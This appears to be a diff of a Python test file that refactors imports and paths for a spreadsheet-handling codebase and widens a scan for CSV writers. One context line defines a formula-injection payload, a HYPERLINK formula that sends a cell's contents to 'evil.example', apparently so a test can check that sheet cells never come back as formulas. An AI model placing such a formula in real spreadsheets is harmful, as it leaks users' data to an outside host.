@@ -18,11 +18,11 @@ from data.spans.corrections import read_corrections
 from data.spans.layout import find_spans
 from data.spans.served import read_served
 from edgeline.cli import predict
-from edgeline.cli.main import main
 from edgeline.prediction.inputs import Input
 from edgeline.runtime import Answer
 from edgeline.tables.sheets import mark_cell, read_rows, unmark_cell, write_rows
 from pipeline.workloads import find_workload, with_features
+from runners.cli.main import main
 
 ROOT = Path(__file__).parents[2]
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"open me")'
@@ -33,8 +33,8 @@ OF_DATA = {
     "data/photos/labels_file.py",
     "data/reviews/generator.py",
     "edgeline/tables/typed_rows.py",
-    "runners/drill/fleet.py",
-    "runners/drill/photos.py",
+    "drill/fleet.py",
+    "drill/photos.py",
 }
 
 
@@ -76,7 +76,7 @@ def test_any_cells_come_back_from_a_sheet_and_none_is_a_formula(tmp_path_factory
 
 def test_only_tables_of_data_are_written_beside_the_writer_of_sheets():
     writers = set()
-    for room in ("edgeline", "components", "data", "pipeline", "runners", "trainer_module"):
+    for room in ("edgeline", "components", "data", "drill", "pipeline", "runners", "trainer_module"):
         for path in (ROOT / room).rglob("*.py"):
             for node in ast.walk(ast.parse(path.read_text("utf-8"))):
                 if isinstance(node, ast.Attribute) and node.attr in ("writer", "DictWriter", "to_csv"):
